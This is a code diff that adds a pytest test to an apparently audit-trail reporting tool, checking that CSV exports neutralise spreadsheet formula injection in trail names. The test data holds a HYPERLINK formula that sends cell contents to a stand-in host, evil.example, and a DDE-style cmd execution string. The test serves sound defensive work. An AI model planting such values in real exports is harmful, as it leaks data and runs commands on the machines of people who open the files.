@@ -53,6 +53,29 @@ def rows(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(file))
 
 
+@pytest.mark.parametrize("form", ["csv", "art30-csv"])
+def test_the_name_of_a_trail_is_no_formula(
+    form: str, made: Any, tmp_path: Path, run: Run
+) -> None:
+    names = ("=HYPERLINK('http://evil.example/?'&C2)", "@SUM(1)*cmd|'/C'!A0", "a/t")
+    places = []
+    for number, origin in enumerate(names):
+        places.append(str(tmp_path / str(number)))
+        with Trail.open(
+            tmp_path / str(number),
+            origin=origin,
+            signing_key=Ed25519PrivateKey.generate(),
+            highwater=tmp_path / "marks",
+            publish_interval_s=None,
+        ) as trail:
+            calls = [e for e in records(made.trail) if _is_call(e)]
+            trail.append_many([json.loads(e.data) for e in calls])
+    out = tmp_path / "all.csv"
+    assert run("report", *places, "--format", form, "--out", str(out))[0] == 0
+    found = {row["trail"] for row in rows(out)}
+    assert found == {f"'{names[0]}", f"'{names[1]}", "a/t"}
+
+
 def test_rows_of_several_trails_stand_in_one_table_under_their_trail(
     twins: list[str], tmp_path: Path, run: Run
 ) -> None:
